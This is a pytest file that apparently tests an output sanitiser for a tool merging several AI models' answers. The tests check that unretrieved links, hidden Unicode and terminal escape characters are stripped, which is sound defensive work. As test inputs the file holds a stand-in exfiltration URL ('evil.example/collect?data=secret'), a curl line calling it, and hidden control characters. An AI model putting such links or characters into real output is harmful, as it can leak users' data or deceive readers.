"""What leaves: every string clean, no image, and no link that nobody retrieved and the person did not give."""

import json
from typing import Any

import pytest

from fusion_mcp.errors import FusionFailed
from fusion_mcp.links import known_links
from fusion_mcp.presentation import presentable, presentable_failure
from fusion_mcp.result import FusionResult
from fusion_mcp.types import Bill, MemberFailure
from scripted.results import a_bare_result, a_response

KNOWN = "https://read.example/page"
EVIL = "https://evil.example/collect?data=secret"
HIDDEN = "\u202e\U000e0041\x1b[31m\u200b"


def result(**changes: Any) -> FusionResult:
    fields: dict[str, Any] = {
        "answer": "Paris.",
        "answered_by": "synthesizer",
        "responses": [a_response("work:alpha", "Paris.")],
        "sources": [{"url": KNOWN, "title": "A page", "used_by": ["work:alpha"]}],
    }
    return a_bare_result(**fields | changes)


def shown(found: FusionResult, *given: str) -> FusionResult:
    known = known_links([*given, *(source.url for source in found.sources)])
    return presentable(found, "full", known, known)


def analysis(text: str) -> dict[str, Any]:
    return {
        "consensus": [text],
        "contradictions": [{"topic": text, "stances": [{"model": "work:alpha", "stance": text}]}],
        "partial_coverage": [{"models": ["work:alpha"], "point": text}],
        "unique_insights": [{"model": "work:alpha", "insight": text}],
        "blind_spots": [text],
    }


@pytest.mark.parametrize(
    "text", [f"[here]({EVIL})", f"see {EVIL}", f"<{EVIL}>", f"`curl {EVIL}`", f"![x]({EVIL})", HIDDEN]
)
def test_every_string_of_a_result_is_clean(text: str) -> None:
    found = shown(
        result(
            answer=text,
            analysis=analysis(text),
            responses=[a_response("work:alpha", text)],
            failed_models=[{"model": "work:beta", "reason": "upstream_error", "error": text}],
            sources=[{"url": KNOWN, "title": text, "used_by": ["work:alpha"]}],
        )
    )
    left = json.dumps(found.model_copy(update={"warnings": []}).model_dump(mode="json"), ensure_ascii=False)
    assert "evil.example" not in left
    assert not any(sign in left for sign in HIDDEN if not sign.isascii() or not sign.isprintable())


def test_names_and_findings_are_clean_wherever_they_stand() -> None:
    name = f"work:{HIDDEN}alpha"
    evidence = {"source": name, "quote": name}
    found = shown(
        result(
            preset=name,
            answered_by=name,
            confidence=[{"point": name, "level": "low", "reason": name}],
            verification={
                "claims": [{"claim": name, "verdict": "supported", "evidence": [evidence], "reason": name}],
                "verifier": name,
                "second_judge": name,
            },
            responses=[a_response(name, "Paris.", served_by=name)],
            cost_breakdown=[{"stage": "panel", "model": name, "usage": {"calls": 1}}],
        )
    )
    left = found.model_dump_json()
    assert left.count("work:alpha") == left.count("work:") == 14


def test_links_that_were_retrieved_or_given_stay_as_they_are() -> None:
    answer = f"Paris ([page]({KNOWN}), https://given.example/x#part)."
    assert shown(result(answer=answer), "https://given.example/x").answer == answer


def test_links_taken_out_of_the_answer_are_named_first_and_each_once() -> None:
    responses = [a_response("work:alpha", f"{EVIL} https://b.example/")]
    found = shown(result(answer=f"[report]({EVIL}) and {EVIL}", responses=responses))
    assert found.answer == "report and [link removed]"
    assert found.warnings == [
        f"Taken out of the answer, since nobody retrieved it in this run: `{EVIL}`.",
        "Taken out of the answer of work:alpha, since nobody retrieved it in this run: `https://b.example/`.",
    ]


def test_many_links_are_counted_and_long_ones_cut() -> None:
    answer = " ".join(f"https://evil.example/{n}/{'x' * 300}" for n in range(13))
    (warning,) = shown(result(answer=answer)).warnings
    assert warning.endswith("… and 3 more.") or " and 3 more." in warning
    assert len(warning) < 2500


def test_names_of_models_are_no_links() -> None:
    response = a_response("work:www.model.example", "Paris.")
    assert shown(result(responses=[response])).responses[0].model == "work:www.model.example"


def test_warnings_name_addresses_as_code_and_nothing_that_can_be_clicked() -> None:
    found = shown(result(warnings=[f"Nobody read `{EVIL}`.{HIDDEN}", f"It said: bad [click]({EVIL}) <{EVIL}> {EVIL}"]))
    assert found.warnings == [f"Nobody read `{EVIL}`.", "It said: bad click [link removed] [link removed]"]


def test_a_failure_names_the_persons_own_provider_and_nobody_elses_address() -> None:
    own = "http://127.0.0.1:8900/v1"
    error = f"cannot be reached at {own}/chat/completions; it said: visit {EVIL}"
    failure = MemberFailure(seat="work:alpha", reason="upstream_error", error=error, bill=Bill())
    failed = presentable_failure(
        FusionFailed("all_panels_failed", "nobody answered", [failure]), known_links((), prefixes=[own])
    )
    assert f"{own}/chat/completions" in str(failed)
    assert "evil.example" not in str(failed)
